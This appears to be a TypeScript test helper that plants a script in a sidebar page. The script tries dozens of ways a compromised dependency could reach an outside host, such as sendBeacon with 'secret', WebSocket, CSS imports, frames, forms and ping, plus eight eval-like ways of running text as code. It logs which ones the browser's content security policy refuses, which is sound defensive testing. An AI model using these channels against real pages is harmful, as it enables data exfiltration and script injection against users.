/** Ways out of a page, as a dependency that has been taken over would try them: each planted in the sidebar's page. */

/** What the planted script tells of itself. */
export interface Planted {
  /** By the way's name: how the browser has refused it. */
  refused: Record<string, string>;
  /** Text that has become code. */
  ran: string[];
}

/** Each asks the foreign host for a path of its own name. */
const asking: Record<string, (url: string) => unknown> = {
  fetch: url => fetch(url, {mode: 'no-cors'}),
  'fetch that outlives the page': url => fetch(url, {mode: 'no-cors', keepalive: true, method: 'POST'}),
  XMLHttpRequest: url => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  },
  sendBeacon: url => navigator.sendBeacon(url, 'secret'),
  WebSocket: url => new WebSocket(url.replace('http', 'ws')),
  EventSource: url => new EventSource(url),
  image: url => (new Image().src = url),
  srcset: url => (new Image().srcset = `${url} 1x`),
  'image in SVG': url => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', url);
    svg.append(image);
    document.body.append(svg);
  },
  'image of a button': url => append('input', {type: 'image', src: url}),
  poster: url => append('video', {poster: url}),
  background: url => (append('p').style.background = `url(${url})`),
  '@import': url => (append('style').textContent = `@import url(${url});`),
  stylesheet: url => append('link', {rel: 'stylesheet', href: url}),
  font: url => new FontFace('planted', `url(${url})`).load(),
  '@font-face': url => {
    append('style').textContent = `@font-face{font-family:planted;src:url(${url})}`;
    const p = append('p', {textContent: 'a'});
    p.style.fontFamily = 'planted';
  },
  script: url => append('script', {src: url}),
  'import()': url => import(url),
  frame: url => append('iframe', {src: url}),
  object: url => append('object', {data: url}),
  embed: url => append('embed', {src: url}),
  video: url => append('video', {src: url}),
  audio: url => (new Audio().src = url),
  form: url => {
    append('iframe', {name: 'sink'});
    append('form', {action: url, target: 'sink', method: 'post'}).submit();
  },
  'preloaded image': url => append('link', {rel: 'preload', as: 'image', href: url}),
  'preloaded module': url => append('link', {rel: 'modulepreload', href: url}),
  prefetch: url => append('link', {rel: 'prefetch', href: url}),
  'markup that loads': url => (append('p').innerHTML = `<img src="${url}">`),
  'a frame’s own markup': url => append('iframe', {srcdoc: `<img src="${url}">`}),
  'an empty frame': url => {
    const {contentDocument, contentWindow} = append('iframe');
    watch(contentWindow!);
    contentDocument!.body.append(Object.assign(contentDocument!.createElement('img'), {src: url}));
  },
  'markup that is written': url => document.write(`<img src="${url}">`),
  'markup beside': url => document.body.insertAdjacentHTML('beforeend', `<img src="${url}">`),
  'markup of a range': url =>
    document.body.append(document.createRange().createContextualFragment(`<img src="${url}">`)),
  worker: url =>
    new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, {mode: 'no-cors'})`]))),
  ping: url => append('a', {href: '#', ping: url}).click(),
  // The last one: it changes where the page's own addresses lead.
  base: url => {
    append('base', {href: url});
    new Image().src = 'base';
  },
};

/** Each makes code of text; `note` is called by it. */
const running: Record<string, (note: string) => unknown> = {
  eval: note => (0, eval)(note),
  Function: note => new Function(note)(),
  'a constructor': note => (() => {}).constructor(note)(),
  setTimeout: note => setTimeout(note),
  setInterval: note => setInterval(note),
  'a script’s text': note => append('script', {textContent: note}),
  'an attribute': note => {
    const button = append('button');
    button.setAttribute('onclick', note);
    button.click();
  },
  'an address': note => append('a', {href: `javascript:${note};void 0`}).click(),
};

// Defined by `attempt`, for all of them.
declare function append<K extends keyof HTMLElementTagNameMap>(
  name: K,
  properties?: object,
): HTMLElementTagNameMap[K];
declare function watch(page: Window): void;

/** What asks a foreign host, and what makes code of text. */
export const ways = {asking: Object.keys(asking), running: Object.keys(running)};

/** Tries each; in the page. */
function attempt(foreign: string, asks: typeof asking, runs: typeof running): void {
  const planted: Planted = {refused: {}, ran: []};
  Object.assign(window, {
    planted,
    append: (name: string, properties = {}) => {
      const element = Object.assign(document.createElement(name), properties);
      document.body.append(element);
      return element;
    },
    watch: (page: Window) =>
      page.addEventListener('securitypolicyviolation', ({blockedURI, effectiveDirective}) => {
        // Of a frame, the origin alone is told.
        const [, name = 'frame'] = blockedURI.split(`${foreign.replace(/^\w+:/, '')}/`);
        if (blockedURI.includes(foreign.replace(/^\w+:/, ''))) {
          planted.refused[decodeURIComponent(name)] ??= effectiveDirective;
        }
      }),
  });
  watch(window);
  const each = (of: typeof asking, argument: (name: string) => string) => {
    for (const [name, way] of Object.entries(of)) {
      const refused = ({name: kind}: Error) => (planted.refused[name] ??= kind);
      try {
        Promise.resolve(way(argument(name))).catch(refused);
      } catch (error) {
        refused(error as Error);
      }
    }
  };
  each(asks, name => `${foreign}/${encodeURIComponent(name)}`);
  each(runs, name => `window.planted.ran.push(${JSON.stringify(name)})`);
}

const written = (of: typeof asking) =>
  `{${Object.entries(of).map(([name, way]) => `${JSON.stringify(name)}: ${way}`)}}`;

/** The script element that tries every way as soon as it is read. @param foreign the host's address */
export const plantedScript = (foreign: string) =>
  `<script>(${attempt})(${JSON.stringify(foreign)}, ${written(asking)}, ${written(running)})</script>`;
